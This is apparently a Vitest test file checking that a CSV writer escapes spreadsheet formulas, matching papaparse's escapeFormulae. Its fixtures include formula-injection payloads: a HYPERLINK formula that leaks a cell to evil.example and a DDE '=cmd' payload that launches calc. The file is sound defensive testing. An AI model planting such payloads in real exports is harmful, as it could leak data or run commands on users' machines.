import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, FORMULA_START, parseCsv, toCsv, toLinksCsv, LINK_COLUMNS, type LinkColumn } from '../../scripts/artifacts/csv.ts';
import type { MappingRow } from '../../scripts/mapping/types.ts';

describe('csvText, the artifacts’ CSV writer', () => {
  const row = ['plain', 'a b', ' lead', 'trail ', 'x"y', 'c,d', 'l\nm', 'r\rs', '\ufeffbom', '', '\ttab', 'T1003.001', 'é ü “quotes”'];
  const header = row.map((_, i) => `c${i}`);
  // Every leading character papaparse's escapeFormulae neutralises, with quotes, commas and line breaks after it.
  const formulas = ['=HYPERLINK("http://evil.example","x")', '+1', '-2', '@x', '\tt', '\r', '\rr', '=a,b', '- ', '=a\nb', '+x\r\ny', 'a=b', '1-2', "'=already"];
  const formulaHeader = formulas.map((_, i) => `f${i}`);

  it('quotes and neutralises formulas exactly where papaparse’s unparse does with escapeFormulae, byte for byte', () => {
    const papa = `${Papa.unparse({ fields: header, data: [row, row] }, { newline: '\n', quotes: false, escapeFormulae: FORMULA_START })}\n`;
    expect(csvText(header, [row, row])).toBe(papa);
    const papaFormulas = `${Papa.unparse({ fields: formulaHeader, data: [formulas] }, { newline: '\n', quotes: false, escapeFormulae: FORMULA_START })}\n`;
    expect(csvText(formulaHeader, [formulas])).toBe(papaFormulas);
  });

  it('reads back through papaparse to the same fields, a formula with its leading quote', () => {
    const back = parseCsv(csvText(header, [row]));
    expect(back).toEqual([Object.fromEntries(header.map((h, i) => [h, row[i] === '\ttab' ? "'\ttab" : row[i]]))]);
  });

  it('writes a hand-made row of formulas as text: each with a leading quote, read back with it', () => {
    const evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@x'];
    const text = csvText(['a', 'b', 'c', 'd'], [evil]);
    expect(text).toBe('a,b,c,d\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","\'+1","\'-2","\'@x"\n');
    expect(parseCsv(text)).toEqual([{ a: `'${evil[0]}`, b: "'+1", c: "'-2", d: "'@x" }]);
  });

  it('neutralises upstream text in mapping.csv and links.csv, and nothing else', () => {
    const r: MappingRow = {
      techniqueId: 'T1003',
      technique: '=cmd|\' /C calc\'!A0',
      tactics: ['credential-access'],
      dataSource: '@Process',
      dataComponent: '+Creation',
      dataComponentId: 'DC0032',
      eventLog: 'Security',
      eventId: '4688',
      eventName: 'A new process has been created.',
      evidence: 'attack-analytic',
      evidenceRef: 'DET0001/AN0001',
      detail: '-',
      grade: 'named',
    };
    const [, line] = toCsv([r]).split('\n');
    expect(line).toBe('T1003,"\'=cmd|\' /C calc\'!A0",credential-access,"\'@Process","\'+Creation",DC0032,Security,4688,A new process has been created.,attack-analytic,DET0001/AN0001,"\'-",named');
    const link = Object.fromEntries(LINK_COLUMNS.map((c) => [c, c === 'technique' ? '=1+1' : c === 'rule_count' ? '0' : 'x'])) as Record<LinkColumn, string>;
    expect(toLinksCsv([link]).split('\n')[1]).toBe(`x,"'=1+1",${['x', 'x', 'x', 'x', 'x', '0', 'x', 'x'].join(',')}`);
  });

  it('ends every line with LF, the last one too', () => {
    expect(csvText(['a', 'b'], [['1', '2']])).toBe('a,b\n1,2\n');
    expect(csvText(['a'], [])).toBe('a\n');
  });
});
